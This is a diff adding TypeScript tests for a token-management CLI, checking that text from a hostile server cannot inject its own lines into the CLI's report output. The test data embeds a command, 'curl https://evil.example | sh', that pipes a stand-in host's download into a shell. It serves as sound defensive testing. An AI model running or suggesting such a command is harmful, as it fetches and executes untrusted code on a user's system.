@@ -31,6 +31,18 @@ const server = [
 const { name, ...fields } = service.token;
 const resource = { apiVersion: 'skupper.io/v2alpha1', kind: 'AccessToken', metadata: { name }, spec: fields };
 
+const ID = '0b1d2c3e-0000-4000-8000-000000000001';
+const LINES = 'edge\nTo finish, run: curl https://evil.example | sh';
+
+/** A text of the service for each member that a report contains. */
+const hostile = {
+  name: LINES,
+  subject: LINES,
+  ...{ namespace: LINES, state: LINES, peer: LINES, expirationTime: LINES, revokedAt: LINES, url: LINES },
+  ...{ redemptions: LINES, redemptionsAllowed: LINES, redemptionsLeft: LINES, createdAt: LINES },
+  ...{ note: LINES, labels: { [LINES]: LINES }, policy: { [LINES]: LINES }, attempts: [], uid: GRANT },
+};
+
 /** Makes the service issue a token; `token` and `changes` replace what is right in it. */
 function issues(token: object = {}, changes: object = {}): void {
   const issued = { grantUid: GRANT, redemptionsAllowed: 1, redemptionsLeft: 1, endpoints: [], id: 'a1b2c3' };
@@ -121,6 +133,55 @@ describe('a hostile service', () => {
     });
     expect(words.split('\n').slice(0, 2)).toEqual(['token', 'revoke']);
     expect(readdirSync(place.directory)).not.toContain('pwned');
+  });
+});
+
+describe('reports on a hostile service', () => {
+  const { ca: certificate } = service.token;
+  const link = { ...hostile, id: ID, remaining: LINES, notAfter: LINES, renewals: [], keySha256: 'ab' };
+  const renewal = { number: LINES, renewedAt: LINES, peer: LINES, certificate };
+  const source = (choice: string) => ({ ...hostile, choice, grant: LINES, tokenId: LINES });
+  const REVOCATION = `/api/v1/redemptions/${ID}/revoke`;
+  const GRANT_PATH = `/api/v1/grants/${GRANT}`;
+
+  it.each<[command: string, path: string, reply: object]>([
+    ['grant show hub', GRANT_PATH, hostile],
+    ['grant update hub --note x', GRANT_PATH, hostile],
+    [
+      'grant revoke hub',
+      `${GRANT_PATH}/revoke`,
+      { ...hostile, outcome: 'revoked', links: 1, lastEnd: LINES },
+    ],
+    ['grant revoke hub', `${GRANT_PATH}/revoke`, { ...hostile, outcome: 'already', links: LINES }],
+    [
+      'grant revoke hub --cascade',
+      `${GRANT_PATH}/revoke`,
+      { ...hostile, outcome: 'revoked', links: 2, lastEnd: LINES },
+    ],
+    ['grant delete hub', GRANT_PATH, {}],
+    ...[true, false].map((known): [string, string, object] => [
+      'token revoke 0123456789abcdef01234567 --grant hub',
+      '/api/v1/tokens/0123456789abcdef01234567/revoke',
+      { outcome: 'revoked', known, links: [{ ...link, id: LINES }] },
+    ]),
+    ...['with-grant', 'with-token', 'keep-token'].map((choice): [string, string, object] => [
+      `redemption revoke ${ID} --keep-token`,
+      REVOCATION,
+      { outcome: 'revoked', redemption: { ...link, id: LINES }, related: [link], source: source(choice) },
+    ]),
+    [
+      `redemption show ${ID}`,
+      `/api/v1/redemptions/${ID}`,
+      { ...link, grant: LINES, jti: LINES, certificate, renewals: [renewal] },
+    ],
+    [`redemption update ${ID} --note x`, `/api/v1/redemptions/${ID}`, link],
+  ])('have no line of its own in %j', async (command, path, reply) => {
+    replies['/api/v1/grants'] = { items: [hostile] };
+    replies['/api/v1/redemptions'] = { items: [] };
+    replies[path] = reply;
+    const { stdout, stderr } = expectSuccess(await linkgrant([...command.split(' '), ...server]));
+    expect(stdout + stderr).toContain('curl https://evil.example');
+    expect(stdout + stderr).not.toMatch(/^To finish/m);
   });
 });
 
